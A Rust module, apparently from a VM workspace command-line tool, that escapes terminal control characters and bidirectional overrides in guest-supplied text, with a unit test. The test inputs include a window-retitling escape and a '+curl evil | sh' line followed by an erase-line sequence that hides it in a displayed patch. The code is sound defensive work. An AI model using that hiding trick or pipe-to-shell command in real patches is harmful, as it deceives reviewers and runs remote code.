//! Guest-controlled text on a terminal: names, messages and content from a VM may carry escape
//! sequences that retitle the window, write the clipboard or hide lines (a patch line erased and
//! rewritten). Human output escapes them; `--json` output stays exact (serde escapes controls).

use std::borrow::Cow;
use std::io::IsTerminal;

/// Characters a terminal could act on: C0 controls (but newline and tab, when `keep_layout`), DEL,
/// C1 controls and the bidirectional overrides and isolates that reorder what is shown.
fn needs_escape(c: char, keep_layout: bool) -> bool {
    match c {
        '\n' | '\t' => !keep_layout,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

fn escape(text: &str, keep_layout: bool) -> Cow<'_, str> {
    if !text.chars().any(|c| needs_escape(c, keep_layout)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if needs_escape(c, keep_layout) {
            match c {
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                '\r' => out.push_str("\\r"),
                c if (c as u32) < 0x100 => out.push_str(&format!("\\x{:02x}", c as u32)),
                c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Text shown to a person (messages, listings): controls escaped, lines kept.
pub fn text(text: &str) -> Cow<'_, str> {
    escape(text, true)
}

/// One field on one line (a file name, a link target): newlines and tabs escaped too, so a name
/// cannot pass for another line.
pub fn field(text: &str) -> Cow<'_, str> {
    escape(text, false)
}

/// A command's product (a patch, file content, logged output): exact when stdout is redirected, so
/// `pyro workspace diff > fix.patch` applies; escaped when a person reads it on a terminal.
pub fn product(content: &str) -> Cow<'_, str> {
    if std::io::stdout().is_terminal() {
        text(content)
    } else {
        Cow::Borrowed(content)
    }
}

/// Like [`product`], for content written to stderr.
pub fn product_stderr(content: &str) -> Cow<'_, str> {
    if std::io::stderr().is_terminal() {
        text(content)
    } else {
        Cow::Borrowed(content)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_are_escaped_and_plain_text_is_not() {
        let cases = [
            (
                "plain text\nnext\tline",
                "plain text\nnext\tline",
                "plain text\\nnext\\tline",
            ),
            (
                "\u{1b}]0;PWNED\u{7}x",
                "\\x1b]0;PWNED\\x07x",
                "\\x1b]0;PWNED\\x07x",
            ),
            (
                "+curl evil | sh #\u{1b}[2K\r+echo ok",
                "+curl evil | sh #\\x1b[2K\\r+echo ok",
                "+curl evil | sh #\\x1b[2K\\r+echo ok",
            ),
            ("abc\u{202e}fed", "abc\\u{202e}fed", "abc\\u{202e}fed"),
            ("\u{9b}31m", "\\x9b31m", "\\x9b31m"),
            ("héllo ✓", "héllo ✓", "héllo ✓"),
        ];
        for (input, as_text, as_field) in cases {
            assert_eq!(text(input), as_text, "{input:?}");
            assert_eq!(field(input), as_field, "{input:?}");
        }
    }
}
